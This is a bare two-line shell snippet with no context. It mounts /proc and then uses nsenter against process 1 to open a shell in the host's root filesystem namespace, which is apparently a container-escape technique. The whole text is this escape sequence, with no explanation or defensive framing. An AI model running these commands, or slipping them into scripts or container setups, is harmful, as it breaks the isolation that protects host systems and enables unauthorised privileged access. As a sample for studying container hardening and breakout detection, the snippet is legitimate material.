mount -t proc none /proc
nsenter -t 1 -r /bin/sh
